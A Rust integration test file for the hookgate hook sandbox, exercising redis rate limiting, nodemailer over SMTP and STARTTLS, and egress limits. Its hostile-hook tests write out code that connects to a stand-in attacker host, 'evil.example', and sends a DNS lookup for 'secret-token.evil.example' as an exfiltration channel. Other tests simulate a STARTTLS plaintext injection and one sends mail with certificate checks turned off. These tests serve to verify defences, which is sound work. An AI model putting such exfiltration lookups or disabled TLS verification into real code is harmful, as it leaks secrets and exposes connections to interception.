//! Node's sockets in hooks and Actions (`net`, `tls`, `dns` over the host's sockets and
//! resolver): the real npm `redis` client keeping a rate limit in a real `redis-server`, end to
//! end through hookgate in front of node-oidc-provider, as a Hook and as an Action; `nodemailer`
//! sending over SMTP (plain and STARTTLS) to a sink written here; and what an attacker's hook
//! cannot do: reach a host outside `[hooks.egress] allow_hosts` (by socket or by DNS query), keep
//! a socket past its call, or open more sockets than its call may.
//!
//! Needs `redis-server` and `node` on PATH and `scripts/setup` run once (it installs
//! `tests/node-compat/hooks/node_modules`, where `redis` and `nodemailer` come from).

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common::hookgate::{free_port, run_cli, Hookgate};
use common::oidc::{self, OidcServer};
use common::wait_for;
use serde_json::Value;

const LIMIT: Duration = Duration::from_secs(20);

/// A hooks folder at `dir/hooks` with `packages` copied from the Node-compatibility suite's
/// node_modules: `require` never resolves above the hooks folder, and a symlinked node_modules
/// would resolve to files outside it.
fn hooks_with(dir: &Path, packages: &[&str]) -> PathBuf {
    let from =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/node-compat/hooks/node_modules");
    assert!(
        from.join("redis").is_dir() && from.join("nodemailer").is_dir(),
        "{} lacks redis/nodemailer: run scripts/setup first",
        from.display()
    );
    let hooks = dir.join("hooks");
    for p in packages {
        copy_dir(&from.join(p), &hooks.join("node_modules").join(p));
    }
    hooks
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

const REDIS_PACKAGES: &[&str] = &["redis", "@redis", "cluster-key-slot"];

/// A `redis-server` of its own on a free port, no persistence, killed on drop.
struct Redis {
    port: u16,
    child: Child,
    _dir: tempfile::TempDir,
}

impl Redis {
    fn start() -> Redis {
        let dir = tempfile::tempdir().unwrap();
        let port = free_port();
        let child = Command::new("redis-server")
            .args([
                "--port",
                &port.to_string(),
                "--bind",
                "127.0.0.1",
                "--save",
                "",
                "--appendonly",
                "no",
            ])
            .arg("--dir")
            .arg(dir.path())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("redis-server on PATH (apt-get install redis-server)");
        let r = Redis {
            port,
            child,
            _dir: dir,
        };
        wait_for("redis-server to listen", LIMIT, || {
            TcpStream::connect(("127.0.0.1", port)).is_ok()
        });
        r
    }

    /// One command over RESP; the reply's first line (`:3`, `$1` then the value for a bulk
    /// string: the value is returned).
    fn command(&self, args: &[&str]) -> String {
        let mut s = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        s.set_read_timeout(Some(LIMIT)).unwrap();
        let mut req = format!("*{}\r\n", args.len());
        for a in args {
            req.push_str(&format!("${}\r\n{a}\r\n", a.len()));
        }
        s.write_all(req.as_bytes()).unwrap();
        let mut r = BufReader::new(s);
        let mut line = String::new();
        r.read_line(&mut line).unwrap();
        if line.starts_with('$') && !line.starts_with("$-1") {
            line.clear();
            r.read_line(&mut line).unwrap();
        }
        line.trim_end().to_owned()
    }
}

impl Drop for Redis {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A message the SMTP sink received.
#[derive(Debug, Clone, Default)]
struct Mail {
    from: String,
    to: Vec<String>,
    data: String,
    /// Sent after STARTTLS.
    secure: bool,
}

impl Mail {
    fn subject(&self) -> Option<&str> {
        self.data
            .lines()
            .find_map(|l| l.strip_prefix("Subject: "))
            .map(str::trim)
    }
}

/// A small SMTP server (EHLO/HELO, STARTTLS when given a certificate, MAIL, RCPT, DATA, RSET,
/// QUIT) that records what it receives, counts the connections it accepted and those that
/// ended. Also the plain TCP peer of the socket tests (it greets, then waits).
struct Sink {
    port: u16,
    mails: Arc<Mutex<Vec<Mail>>>,
    accepted: Arc<AtomicUsize>,
    ended: Arc<AtomicUsize>,
}

type Tls = Option<Arc<rustls::ServerConfig>>;

impl Sink {
    fn start(tls: Tls) -> Sink {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let sink = Sink {
            port,
            mails: Arc::default(),
            accepted: Arc::default(),
            ended: Arc::default(),
        };
        let (mails, accepted, ended) = (
            sink.mails.clone(),
            sink.accepted.clone(),
            sink.ended.clone(),
        );
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(conn) = conn else { return };
                accepted.fetch_add(1, Ordering::SeqCst);
                let (mails, ended, tls) = (mails.clone(), ended.clone(), tls.clone());
                std::thread::spawn(move || {
                    conn.set_read_timeout(Some(Duration::from_secs(60))).ok();
                    serve_smtp(conn, &mails, tls);
                    ended.fetch_add(1, Ordering::SeqCst);
                });
            }
        });
        sink
    }

    fn mails(&self) -> Vec<Mail> {
        self.mails.lock().unwrap().clone()
    }
}

/// Lines in, replies out, over a plain or TLS stream.
trait Wire: Read + Write {}
impl<T: Read + Write> Wire for T {}

fn read_line(conn: &mut dyn Wire) -> Option<String> {
    let mut line = Vec::new();
    let mut b = [0u8; 1];
    loop {
        match conn.read(&mut b) {
            Ok(1) => {
                line.push(b[0]);
                if b[0] == b'\n' {
                    return Some(String::from_utf8_lossy(&line).trim_end().to_owned());
                }
            }
            _ => return None,
        }
    }
}

fn serve_smtp(conn: TcpStream, mails: &Mutex<Vec<Mail>>, tls: Tls) {
    let mut plain = conn;
    if plain.write_all(b"220 sink.test ESMTP\r\n").is_err() {
        return;
    }
    let mut secure: Option<rustls::StreamOwned<rustls::ServerConnection, TcpStream>> = None;
    let mut mail = Mail::default();
    loop {
        let is_secure = secure.is_some();
        let conn: &mut dyn Wire = match &mut secure {
            Some(s) => s,
            None => &mut plain,
        };
        let Some(line) = read_line(conn) else { return };
        let upper = line.to_ascii_uppercase();
        let reply: &[u8] = if upper.starts_with("EHLO") {
            if tls.is_some() && !is_secure {
                b"250-sink.test\r\n250-8BITMIME\r\n250 STARTTLS\r\n"
            } else {
                b"250-sink.test\r\n250 8BITMIME\r\n"
            }
        } else if upper.starts_with("HELO") {
            b"250 sink.test\r\n"
        } else if upper == "STARTTLS" && tls.is_some() && !is_secure {
            if conn.write_all(b"220 ready to start TLS\r\n").is_err() {
                return;
            }
            let server = rustls::ServerConnection::new(tls.clone().unwrap()).unwrap();
            let stream = plain.try_clone().unwrap();
            secure = Some(rustls::StreamOwned::new(server, stream));
            continue;
        } else if let Some(from) = upper.strip_prefix("MAIL FROM:") {
            mail = Mail {
                from: line[line.len() - from.len()..].to_owned(),
                secure: is_secure,
                ..Mail::default()
            };
            b"250 OK\r\n"
        } else if let Some(to) = upper.strip_prefix("RCPT TO:") {
            mail.to.push(line[line.len() - to.len()..].to_owned());
            b"250 OK\r\n"
        } else if upper == "DATA" {
            if conn.write_all(b"354 end with .\r\n").is_err() {
                return;
            }
            while let Some(l) = read_line(conn) {
                if l == "." {
                    break;
                }
                mail.data.push_str(&l);
                mail.data.push('\n');
            }
            mails.lock().unwrap().push(std::mem::take(&mut mail));
            b"250 OK queued as 1\r\n"
        } else if upper == "RSET" || upper == "NOOP" {
            b"250 OK\r\n"
        } else if upper == "QUIT" {
            let _ = conn.write_all(b"221 bye\r\n");
            let _ = conn.flush();
            return;
        } else {
            b"502 not implemented\r\n"
        };
        if conn.write_all(reply).and_then(|_| conn.flush()).is_err() {
            return;
        }
    }
}

/// A certificate for `smtp.example.test` (not a CA, so it can be its own trust anchor in a
/// hook's `tls: { ca }`) and the server side of it.
fn smtp_tls() -> (String, Arc<rustls::ServerConfig>) {
    let ck = rcgen::generate_simple_self_signed(vec!["smtp.example.test".to_owned()]).unwrap();
    let cert_pem = ck.cert.pem();
    let cert = rustls::pki_types::CertificateDer::from(ck.cert.der().to_vec());
    let key = rustls::pki_types::PrivateKeyDer::try_from(ck.signing_key.serialize_der()).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::aws_lc_rs::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(vec![cert], key)
    .unwrap();
    (cert_pem, Arc::new(config))
}

/// `hookgate test` on `file` (relative to the hooks folder) with `config` (its `[upstream]` is
/// added); the printed result, or panics with the output.
fn run_test(dir: &Path, file: &str, config: &str, payload: Option<&str>) -> (i32, String, String) {
    let path = dir.join("hookgate.toml");
    std::fs::write(
        &path,
        format!("[upstream]\naddress = \"127.0.0.1:1\"\n{config}"),
    )
    .unwrap();
    let hook = dir.join("hooks").join(file);
    let (c, p) = (
        path.to_string_lossy().into_owned(),
        hook.to_string_lossy().into_owned(),
    );
    let payload_path = dir.join("payload.json");
    let payload_arg = payload_path.to_string_lossy().into_owned();
    let mut args = vec!["test", "--config", c.as_str(), p.as_str()];
    if let Some(payload) = payload {
        std::fs::write(&payload_path, payload).unwrap();
        args.extend(["--payload", payload_arg.as_str()]);
    }
    run_cli(&args, dir)
}

fn result_of(out: (i32, String, String)) -> Value {
    let (code, stdout, stderr) = out;
    assert_eq!(code, 0, "hookgate test failed:\n{stdout}\n{stderr}");
    serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {stdout}\n{stderr}"))
}

// ---------------------------------------------------------------------------------------------
// The npm `redis` client: a rate limit kept in Redis, end to end.

const TOKEN_ROUTE: &str =
    "[[route]]\nname = \"token\"\npath = \"/oauth/token\"\npoint = \"credentials-exchange\"\n\
     upstream_path = \"/token\"\naudience_param = \"resource\"\n";

/// A Hook as teams write it: a client per call, INCR and EXPIRE, quit, and a refusal above two
/// calls a minute per client.
const RATE_LIMIT_HOOK: &str = r#"
const { createClient } = require('redis');
module.exports = function (client, scope, audience, context, cb) {
  const r = createClient({ url: 'redis://redis.internal:6379' });
  r.on('error', function () {});
  const key = 'calls:' + client.id;
  r.connect()
    .then(function () { return r.incr(key); })
    .then(function (n) { return r.expire(key, 60).then(function () { return r.quit(); }).then(function () { return n; }); })
    .then(function (n) {
      if (n > 2) return cb(new InvalidRequestError('rate limit exceeded: ' + n + ' calls this minute'));
      cb(null, { scope: scope, 'https://example.com/calls': n });
    }, function (e) { cb(e); });
};
"#;

/// The same as an Action, with the client kept in module scope as Actions do, `unref()`ed so
/// an idle connection does not hold the call open until its timeout.
const RATE_LIMIT_ACTION: &str = r#"
const { createClient } = require('redis');
let client;
function redis() {
  if (!client) {
    client = createClient({ url: 'redis://redis.internal:6379' });
    client.on('error', () => {});
    client.unref();
    client.ready = client.connect();
  }
  return client.ready.then(() => client);
}
exports.onExecuteCredentialsExchange = async (event, api) => {
  const r = await redis();
  const key = 'action-calls:' + event.client.client_id;
  const n = await r.incr(key);
  if (n === 1) await r.expire(key, 60);
  if (n > 2) return api.access.deny('invalid_request', 'rate limit exceeded: ' + n + ' calls this minute');
  api.accessToken.setCustomClaim('https://example.com/calls', n);
};
"#;

struct Tokens {
    _idp: OidcServer,
    hg: Hookgate,
}

fn start_tokens(file: &str, source: &str, redis: &Redis) -> Tokens {
    let idp = OidcServer::start();
    let dir = tempfile::tempdir().unwrap();
    let hooks = hooks_with(dir.path(), REDIS_PACKAGES);
    std::fs::create_dir_all(hooks.join("credentials-exchange")).unwrap();
    std::fs::write(hooks.join("credentials-exchange").join(file), source).unwrap();
    // One worker: the Action's second call runs where its first left the client.
    let settings = format!(
        "[hooks]\ndir = \"hooks\"\nworkers = 1\n[[hooks.hook]]\nfile = \"credentials-exchange/{file}\"\ntimeout_ms = 5000\n\
         [hooks.egress]\nallow_hosts = [\"redis.internal\"]\n[hooks.egress.redirect]\n\"redis.internal\" = \"http://127.0.0.1:{}\"\n",
        redis.port
    );
    let hg = Hookgate::start_in(
        dir,
        &idp.addr(),
        "",
        "",
        &format!("{TOKEN_ROUTE}{settings}"),
    );
    Tokens { _idp: idp, hg }
}

async fn exchange(hg: &Hookgate) -> (u16, Value) {
    let resp = reqwest::Client::new()
        .post(hg.url("/oauth/token"))
        .form(&[
            ("grant_type", "client_credentials"),
            ("client_id", oidc::POST_CLIENT_ID),
            ("client_secret", oidc::POST_CLIENT_SECRET),
            ("audience", oidc::AUDIENCE),
            ("scope", "read:users"),
        ])
        .timeout(LIMIT)
        .send()
        .await
        .unwrap();
    (resp.status().as_u16(), resp.json().await.unwrap())
}

/// The token's claims, unverified (the e2e suites verify hookgate's signatures).
fn claims(body: &Value) -> Value {
    use base64::Engine;
    let jwt = body["access_token"].as_str().expect("an access token");
    let payload = jwt.split('.').nth(1).unwrap();
    serde_json::from_slice(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(payload)
            .unwrap(),
    )
    .unwrap()
}

async fn check_rate_limit(t: &Tokens, redis: &Redis, key: &str) {
    for n in 1..=2 {
        let (status, body) = exchange(&t.hg).await;
        assert_eq!(status, 200, "call {n}: {body}\n{}", t.hg.log());
        assert_eq!(claims(&body)["https://example.com/calls"], n, "{body}");
    }
    let (status, body) = exchange(&t.hg).await;
    assert_eq!(
        status,
        400,
        "the third call is over the limit: {body}\n{}",
        t.hg.log()
    );
    assert_eq!(body["error"], "invalid_request", "{body}");
    assert_eq!(
        body["error_description"],
        "rate limit exceeded: 3 calls this minute"
    );
    assert_eq!(
        redis.command(&["GET", key]),
        "3",
        "the count lives in Redis"
    );
    let ttl: i64 = redis
        .command(&["TTL", key])
        .trim_start_matches(':')
        .parse()
        .unwrap();
    assert!(ttl > 0 && ttl <= 60, "EXPIRE set the window: ttl {ttl}");
    let log = t.hg.log();
    assert!(
        log.lines().any(|l| l.contains("hookgate::egress")
            && l.contains("socket")
            && l.contains("host=redis.internal")
            && l.contains("bytes_in=")),
        "one log line per socket:\n{log}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_npm_redis_client_keeps_a_hooks_rate_limit_in_redis_and_the_hook_refuses_above_it() {
    let redis = Redis::start();
    let t = start_tokens("rate-limit.js", RATE_LIMIT_HOOK, &redis);
    check_rate_limit(&t, &redis, "calls:m2m-post").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_action_keeps_its_redis_client_in_module_scope_across_calls_and_denies_above_the_limit()
{
    let redis = Redis::start();
    let t = start_tokens("rate-limit.js", RATE_LIMIT_ACTION, &redis);
    check_rate_limit(&t, &redis, "action-calls:m2m-post").await;
}

// ---------------------------------------------------------------------------------------------
// nodemailer over SMTP.

const WELCOME_HOOK: &str = r#"
const nodemailer = require('nodemailer');
module.exports = function (user, context, cb) {
  const { SMTP_CA, SMTP_INSECURE } = context.webtask.secrets;
  const transport = nodemailer.createTransport({
    host: 'smtp.example.test', port: 587, secure: false,
    requireTLS: !!(SMTP_CA || SMTP_INSECURE),
    tls: SMTP_INSECURE ? { rejectUnauthorized: false } : SMTP_CA ? { ca: SMTP_CA } : undefined,
  });
  transport.sendMail({
    from: 'Welcome <welcome@example.test>',
    to: user.email,
    subject: 'Welcome aboard, ' + user.username,
    text: 'Hello ' + user.username,
  }, function (err, info) {
    if (err) return cb(err);
    cb(null, { accepted: info.accepted, response: info.response });
  });
};
"#;

fn mail_config(sink: &Sink, extra: &str) -> String {
    format!(
        "[hooks.egress]\nallow_hosts = [\"smtp.example.test\"]\n[hooks.egress.redirect]\n\"smtp.example.test\" = \"http://127.0.0.1:{}\"\n{extra}",
        sink.port
    )
}

const SIGNUP: &str = r#"{"user": {"email": "ada@example.com", "username": "ada"}}"#;

#[test]
fn nodemailer_sends_a_post_user_registration_welcome_over_smtp_to_the_redirected_host() {
    let sink = Sink::start(None);
    let dir = tempfile::tempdir().unwrap();
    let hooks = hooks_with(dir.path(), &["nodemailer"]);
    std::fs::create_dir_all(hooks.join("post-user-registration")).unwrap();
    std::fs::write(
        hooks.join("post-user-registration/welcome.js"),
        WELCOME_HOOK,
    )
    .unwrap();
    let out = result_of(run_test(
        dir.path(),
        "post-user-registration/welcome.js",
        &mail_config(&sink, ""),
        Some(SIGNUP),
    ));
    assert_eq!(
        out["accepted"],
        serde_json::json!(["ada@example.com"]),
        "{out}"
    );
    let mails = sink.mails();
    assert_eq!(mails.len(), 1, "{mails:?}");
    assert_eq!(mails[0].to, vec!["<ada@example.com>".to_owned()]);
    assert_eq!(mails[0].from, "<welcome@example.test>");
    assert_eq!(mails[0].subject(), Some("Welcome aboard, ada"));
    assert!(!mails[0].secure);
}

#[test]
fn nodemailer_upgrades_to_tls_with_starttls_and_verifies_the_servers_certificate() {
    let (cert_pem, tls) = smtp_tls();
    let sink = Sink::start(Some(tls));
    let dir = tempfile::tempdir().unwrap();
    let hooks = hooks_with(dir.path(), &["nodemailer"]);
    std::fs::create_dir_all(hooks.join("post-user-registration")).unwrap();
    std::fs::write(
        hooks.join("post-user-registration/welcome.js"),
        WELCOME_HOOK,
    )
    .unwrap();
    // `hookgate test` takes secrets from the payload, as Auth0's Runner did.
    let payload = serde_json::json!({
        "user": {"email": "ada@example.com", "username": "ada"},
        "context": {"webtask": {"secrets": {"SMTP_CA": cert_pem}}},
    })
    .to_string();
    let out = result_of(run_test(
        dir.path(),
        "post-user-registration/welcome.js",
        &mail_config(&sink, ""),
        Some(&payload),
    ));
    assert_eq!(
        out["accepted"],
        serde_json::json!(["ada@example.com"]),
        "{out}"
    );
    let mails = sink.mails();
    assert_eq!(mails.len(), 1, "{mails:?}");
    assert!(mails[0].secure, "the message went after STARTTLS");
    assert_eq!(mails[0].subject(), Some("Welcome aboard, ada"));
}

#[test]
fn starttls_to_a_server_whose_certificate_is_not_trusted_fails_with_nodes_error_and_sends_nothing()
{
    let (_, tls) = smtp_tls();
    let sink = Sink::start(Some(tls));
    let dir = tempfile::tempdir().unwrap();
    let hooks = hooks_with(dir.path(), &["nodemailer"]);
    std::fs::create_dir_all(hooks.join("post-user-registration")).unwrap();
    // requireTLS with the platform's roots: the sink's certificate is its own.
    let hook = WELCOME_HOOK.replace(
        "requireTLS: !!(SMTP_CA || SMTP_INSECURE)",
        "requireTLS: true",
    );
    std::fs::write(hooks.join("post-user-registration/welcome.js"), hook).unwrap();
    let (code, stdout, stderr) = run_test(
        dir.path(),
        "post-user-registration/welcome.js",
        &mail_config(&sink, ""),
        Some(SIGNUP),
    );
    assert_eq!(code, 1, "{stdout}\n{stderr}");
    assert!(
        stderr.contains("UNABLE_TO_GET_ISSUER_CERT_LOCALLY")
            || stderr.contains("unable to get local issuer certificate")
            || stderr.contains("self-signed"),
        "{stderr}"
    );
    assert!(sink.mails().is_empty());
}

#[test]
fn starttls_with_reject_unauthorized_false_sends_to_a_server_it_does_not_trust() {
    let (_, tls) = smtp_tls();
    let sink = Sink::start(Some(tls));
    let dir = tempfile::tempdir().unwrap();
    let hooks = hooks_with(dir.path(), &["nodemailer"]);
    std::fs::create_dir_all(hooks.join("post-user-registration")).unwrap();
    std::fs::write(
        hooks.join("post-user-registration/welcome.js"),
        WELCOME_HOOK,
    )
    .unwrap();
    let payload = serde_json::json!({
        "user": {"email": "ada@example.com", "username": "ada"},
        "context": {"webtask": {"secrets": {"SMTP_INSECURE": "1"}}},
    })
    .to_string();
    let out = result_of(run_test(
        dir.path(),
        "post-user-registration/welcome.js",
        &mail_config(&sink, ""),
        Some(&payload),
    ));
    assert_eq!(
        out["accepted"],
        serde_json::json!(["ada@example.com"]),
        "{out}"
    );
    let mails = sink.mails();
    assert_eq!(mails.len(), 1, "{mails:?}");
    assert!(mails[0].secure, "the message went after STARTTLS");
}

// ---------------------------------------------------------------------------------------------
// What a hostile hook cannot do.

#[test]
fn sockets_and_lookups_for_hosts_outside_allow_hosts_are_refused_and_nothing_connects() {
    let sink = Sink::start(None);
    let dir = tempfile::tempdir().unwrap();
    let hooks = dir.path().join("hooks/credentials-exchange");
    std::fs::create_dir_all(&hooks).unwrap();
    let hook = format!(
        r#"
const net = require('net'), tls = require('tls'), dns = require('dns');
function outcome(open) {{
  return new Promise((resolve) => {{
    const s = open();
    s.on('connect', () => {{ s.destroy(); resolve('connected'); }});
    s.on('error', (e) => resolve(e.code + ': ' + e.message));
  }});
}}
module.exports = async function (client, scope, audience, context, cb) {{
  const out = {{}};
  out.ip = await outcome(() => net.connect({port}, '127.0.0.1'));
  out.name = await outcome(() => net.connect({port}, 'evil.example'));
  out.tls = await outcome(() => tls.connect({port}, 'evil.example'));
  out.lookup = await new Promise((r) => dns.lookup('secret-token.evil.example', (e, a) => r(e ? e.code : a)));
  out.resolve4 = await dns.promises.resolve4('secret-token.evil.example').then((a) => a, (e) => e.code);
  out.allowed = await new Promise((r) => dns.lookup('localhost', (e, a) => r(e ? e.code : a)));
  try {{ net.createServer(); out.server = 'created'; }} catch (e) {{ out.server = e.code + ': ' + e.message; }}
  cb(null, out);
}};
"#,
        port = sink.port
    );
    std::fs::write(hooks.join("escape.js"), hook).unwrap();
    let config = "[hooks.egress]\nallow_hosts = [\"localhost\"]\n";
    let out = result_of(run_test(
        dir.path(),
        "credentials-exchange/escape.js",
        config,
        None,
    ));
    for k in ["ip", "name", "tls"] {
        let s = out[k].as_str().unwrap();
        assert!(s.starts_with("ERR_HOOKGATE_EGRESS: host `"), "{k}: {s}");
        assert!(
            s.contains("is not in [hooks.egress] allow_hosts"),
            "{k}: {s}"
        );
    }
    assert_eq!(
        out["lookup"], "ERR_HOOKGATE_EGRESS",
        "a DNS query carries its name out"
    );
    assert_eq!(out["resolve4"], "ERR_HOOKGATE_EGRESS");
    assert_eq!(
        out["server"],
        "ERR_HOOKGATE_UNSUPPORTED: net.createServer is not available to hooks: hookgate hooks open outbound connections only"
    );
    assert!(
        out["allowed"].as_str().unwrap().contains('1'),
        "an allowed name resolves: {out}"
    );
    assert_eq!(
        sink.accepted.load(Ordering::SeqCst),
        0,
        "nothing reached the sink"
    );
}

#[test]
fn a_call_may_hold_only_max_requests_per_call_sockets_more_fail_with_emfile() {
    let sink = Sink::start(None);
    let dir = tempfile::tempdir().unwrap();
    let hooks = dir.path().join("hooks/credentials-exchange");
    std::fs::create_dir_all(&hooks).unwrap();
    let hook = r#"
const net = require('net');
module.exports = async function (client, scope, audience, context, cb) {
  const sockets = [];
  const outcomes = await Promise.all([0, 1, 2, 3, 4].map(() => new Promise((resolve) => {
    const s = net.connect(25, 'sink.internal');
    sockets.push(s);
    s.on('connect', () => resolve('connected'));
    s.on('error', (e) => resolve(e.code));
  })));
  sockets.forEach((s) => s.destroy());
  cb(null, { outcomes: outcomes.sort() });
};
"#;
    std::fs::write(hooks.join("many.js"), hook).unwrap();
    let config = format!(
        "[hooks]\nmax_requests_per_call = 2\n[hooks.egress]\nallow_hosts = [\"sink.internal\"]\n[hooks.egress.redirect]\n\"sink.internal\" = \"http://127.0.0.1:{}\"\n",
        sink.port
    );
    let out = result_of(run_test(
        dir.path(),
        "credentials-exchange/many.js",
        &config,
        None,
    ));
    assert_eq!(
        out["outcomes"],
        serde_json::json!(["EMFILE", "EMFILE", "EMFILE", "connected", "connected"]),
        "{out}"
    );
    wait_for("the sink to see the two connections", LIMIT, || {
        sink.accepted.load(Ordering::SeqCst) == 2
    });
}

#[tokio::test(flavor = "multi_thread")]
async fn a_socket_left_open_is_closed_at_its_calls_timeout_and_the_next_calls_still_work() {
    let sink = Sink::start(None);
    let idp = OidcServer::start();
    let dir = tempfile::tempdir().unwrap();
    let hooks = dir.path().join("hooks/credentials-exchange");
    std::fs::create_dir_all(&hooks).unwrap();
    let hook = r#"
const net = require('net');
module.exports = function (client, scope, audience, context, cb) {
  if (context.body.hang === 'yes') {
    // Opens a socket, never closes it, never calls cb.
    net.connect(25, 'sink.internal').on('data', () => {});
    return;
  }
  cb(null, { scope: scope });
};
"#;
    std::fs::write(hooks.join("hang.js"), hook).unwrap();
    let settings = format!(
        "[hooks]\ndir = \"hooks\"\nworkers = 1\n[[hooks.hook]]\nfile = \"credentials-exchange/hang.js\"\ntimeout_ms = 1000\n\
         [hooks.egress]\nallow_hosts = [\"sink.internal\"]\n[hooks.egress.redirect]\n\"sink.internal\" = \"http://127.0.0.1:{}\"\n",
        sink.port
    );
    let hg = Hookgate::start_in(
        dir,
        &idp.addr(),
        "",
        "",
        &format!("{TOKEN_ROUTE}{settings}"),
    );
    let resp = reqwest::Client::new()
        .post(hg.url("/oauth/token"))
        .form(&[
            ("grant_type", "client_credentials"),
            ("client_id", oidc::POST_CLIENT_ID),
            ("client_secret", oidc::POST_CLIENT_SECRET),
            ("audience", oidc::AUDIENCE),
            ("hang", "yes"),
        ])
        .timeout(LIMIT)
        .send()
        .await
        .unwrap();
    assert_ne!(resp.status(), 200, "the call timed out");
    let body: Value = resp.json().await.unwrap();
    assert!(body["error"].is_string(), "an OAuth error: {body}");
    wait_for("the sink to see the socket open", LIMIT, || {
        sink.accepted.load(Ordering::SeqCst) == 1
    });
    wait_for("the sink to see the socket closed", LIMIT, || {
        sink.ended.load(Ordering::SeqCst) == 1
    });
    for _ in 0..3 {
        let (status, body) = exchange(&hg).await;
        assert_eq!(status, 200, "{body}\n{}", hg.log());
    }
    let log = hg.log();
    assert!(
        log.lines().any(|l| l.contains("socket")
            && l.contains("host=sink.internal")
            && l.contains("bytes_in=")),
        "{log}"
    );
}

#[test]
fn plaintext_that_arrives_after_starttls_is_requested_fails_the_tls_socket_and_is_never_read_as_protected(
) {
    // A man in the middle answers STARTTLS's `220` and appends a line of its own in plaintext.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let Ok((mut conn, _)) = listener.accept() else {
            return;
        };
        let _ = conn.write_all(b"220 Ready to start TLS\r\n");
        std::thread::sleep(Duration::from_millis(50));
        let _ = conn.write_all(b"250 injected\r\n");
        std::thread::sleep(Duration::from_secs(3));
    });
    let dir = tempfile::tempdir().unwrap();
    let hooks = dir.path().join("hooks/credentials-exchange");
    std::fs::create_dir_all(&hooks).unwrap();
    let hook = format!(
        r#"
const net = require('net'), tls = require('tls');
module.exports = function (client, scope, audience, context, cb) {{
  let t = null, sent = false;
  function done(outcome) {{ if (sent) return; sent = true; if (t) t.destroy(); cb(null, {{ outcome }}); }}
  const s = net.connect({port}, '127.0.0.1');
  s.once('data', () => {{
    // Busy while the injected line is read: it is queued for the socket when the upgrade starts.
    const until = Date.now() + 500;
    while (Date.now() < until) {{}}
    t = tls.connect({{ socket: s, servername: 'smtp.example.test', rejectUnauthorized: false }});
    t.on('data', (d) => done('data: ' + d.toString().trim()));
    t.on('error', (e) => done(e.code));
    t.on('secureConnect', () => done('secure'));
  }});
}};
"#
    );
    std::fs::write(hooks.join("inject.js"), hook).unwrap();
    let out = result_of(run_test(
        dir.path(),
        "credentials-exchange/inject.js",
        "",
        None,
    ));
    assert_eq!(out["outcome"], "ERR_HOOKGATE_TLS_PLAINTEXT", "{out}");
}
